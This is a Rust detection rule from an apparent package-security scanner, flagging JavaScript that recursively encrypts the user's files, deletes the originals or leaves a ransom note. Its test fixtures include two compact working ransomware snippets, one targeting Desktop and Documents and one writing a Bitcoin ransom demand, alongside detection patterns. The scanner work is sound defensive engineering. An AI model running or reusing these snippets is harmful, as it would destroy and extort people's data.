//! Rule `ransomware`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, all_text, code_files, is_doc_path};

crate::declare_rule! {
    /// Encrypts the user's files where they are: a recursive directory walk, and within a few
    /// lines of each other a file read, a cipher (`createCipheriv`, `createCipher`,
    /// `publicEncrypt`, `subtle.encrypt`), a write and the removal of the original (`unlink`,
    /// `rm`, or a write back over the path that was read), in a file whose walk starts in the
    /// user's folders (the home directory with Desktop, Documents, Pictures, Downloads or
    /// OneDrive, a drive root, `/`) or that writes a ransom note (encrypted files, a payment or
    /// a way to recover them). Folder-encryption tools encrypt the folder their user names and
    /// keep or ask about the originals.
    id: "ransomware",
    category: Other,
    severity: Critical,
    capability: Some(crate::model::Capability::FilesystemWrite),
    title: "encrypts the user's files",
    incident: "noblox.js-proxy / noblox.js-vps typosquats (Sonatype, Oct 2021) encrypted documents on install",
    case_file: "index.js",
    flag: ["const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\nfunction* walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) yield* walk(p); else yield p; } }\nfor (const root of ['Desktop', 'Documents'].map((x) => path.join(os.homedir(), x))) for (const f of walk(root)) { const c = crypto.createCipheriv('aes-256-cbc', key, iv); fs.writeFileSync(f + '.locked', Buffer.concat([c.update(fs.readFileSync(f)), c.final()])); fs.unlinkSync(f); }",
           "const fsp = require('fs/promises'); const crypto = require('crypto');\nasync function go(dir) { for (const n of await fsp.readdir(dir)) { const p = dir + '/' + n; if ((await fsp.stat(p)).isDirectory()) { await go(p); continue; } const data = await fsp.readFile(p); const enc = crypto.publicEncrypt(PUB, data.subarray(0, 190)); await fsp.writeFile(p, Buffer.concat([enc, data.subarray(190)])); } await fsp.writeFile(dir + '/README_RESTORE.txt', 'All your files are encrypted. Pay 0.1 BTC to recover them.'); }\ngo(process.cwd());"],
    pass: ["function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else { const c = crypto.createCipheriv('aes-256-gcm', key, iv); fs.writeFileSync(p + '.enc', Buffer.concat([c.update(fs.readFileSync(p)), c.final()])); if (opts.removeOriginals) fs.unlinkSync(p); } } }\nmodule.exports = (dir, key, opts) => walk(path.resolve(dir))",
           "function walk(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) walk(p); else hashes[p] = crypto.createHash('sha256').update(fs.readFileSync(p)).digest('hex'); } }\nwalk(path.join(os.homedir(), 'Documents'))",
           "const c = crypto.createCipheriv('aes-256-cbc', key, iv); fs.writeFileSync(out, Buffer.concat([c.update(fs.readFileSync(src)), c.final()])); fs.unlinkSync(src);"],
}

/// How close (in bytes) the read, cipher, write and removal must be: one loop body.
const BODY_WINDOW: usize = 1_200;

fn is_cipher(path: &str) -> bool {
    matches!(
        path,
        "crypto.createCipheriv"
            | "crypto.createCipher"
            | "crypto.publicEncrypt"
            | "crypto.privateEncrypt"
            | "crypto.subtle.encrypt"
            | "crypto.webcrypto.subtle.encrypt"
            | "subtle.encrypt"
    )
}

fn check(pkg: &Package, out: &mut Emitter) {
    let user_folders =
        crate::regex!(r#"['"`](Desktop|Documents|Pictures|Downloads|OneDrive)['"`/\\]"#);
    let home = crate::regex!(r"\bhomedir\b|\bHOME\b|\bUSERPROFILE\b");
    let root = crate::regex!(r#"\(\s*['"`](/|[A-Z]:\\\\)['"`]\s*\)|['"`][A-Z]:\\\\['"`]"#);
    let note = crate::regex!(
        r"(?i)\b(files|documents|data)\b[^'\x22`\n]{0,40}\b(encrypted|locked)\b[^'\x22`]{0,300}\b(BTC|bitcoin|monero|XMR|USDT|ransom|pay|recover|restore|decrypt)"
    );
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let Some(js) = &f.js else { continue };
        if !js.calls.iter().any(|c| is_cipher(&c.path)) {
            continue;
        }
        let text = all_text(f);
        let recursive_walk = js.calls.iter().any(|c| {
            let m = c.path.rsplit('.').next().unwrap_or("");
            c.path.starts_with("fs") && (m.starts_with("readdir") || m.starts_with("opendir"))
        }) && (text.contains("isDirectory") || text.contains("withFileTypes"));
        if !recursive_walk {
            continue;
        }
        let near = |a: u32, b: u32| (a.abs_diff(b) as usize) < BODY_WINDOW;
        let reads: Vec<&crate::js::Call> = js
            .calls
            .iter()
            .filter(|c| {
                let m = c.path.rsplit('.').next().unwrap_or("");
                c.path.starts_with("fs") && (m.starts_with("readFile") || m == "createReadStream")
            })
            .collect();
        let writes: Vec<&crate::js::Call> = js
            .calls
            .iter()
            .filter(|c| {
                crate::rules::is_file_write(&c.path) || c.path.starts_with("fs/promises.writeFile")
            })
            .collect();
        let removes: Vec<u32> = js
            .calls
            .iter()
            .filter(|c| {
                let m = c.path.rsplit('.').next().unwrap_or("");
                c.path.starts_with("fs") && (m.starts_with("unlink") || m == "rmSync" || m == "rm")
            })
            .map(|c| c.off)
            .collect();
        // The original is gone: removed, or written over with what was read from it.
        let src_of = |c: &crate::js::Call| {
            let s = c.off as usize;
            text.get(s..(s + 200).min(text.len()))
                .and_then(|t| t.split_once('(').map(|(_, r)| r))
                .and_then(|r| r.split([',', ')']).next())
                .map(str::trim)
                .filter(|a| !a.is_empty())
        };
        let hit = js
            .calls
            .iter()
            .filter(|c| is_cipher(&c.path))
            .find_map(|c| {
                let read = reads.iter().find(|r| near(r.off, c.off))?;
                let write = writes.iter().find(|w| near(w.off, c.off))?;
                let gone = removes.iter().any(|&r| near(r, c.off))
                    || src_of(read).is_some_and(|a| Some(a) == src_of(write));
                gone.then_some(c.off)
            });
        let Some(off) = hit else { continue };
        let targets_user =
            home.is_match(text) && user_folders.is_match(text) || root.is_match(text);
        let ransom_note = note.is_match(text);
        if !(targets_user || ransom_note) {
            continue;
        }
        let why = match (targets_user, ransom_note) {
            (true, true) => "in the user's folders, and leaves a ransom note",
            (true, false) => "in the user's folders",
            _ => "and leaves a ransom note",
        };
        out.hit_sev(
            Severity::Critical,
            pkg,
            f,
            off,
            format!(
                "walks directories, encrypts the files it finds and removes the originals {why}"
            ),
        );
    }
}
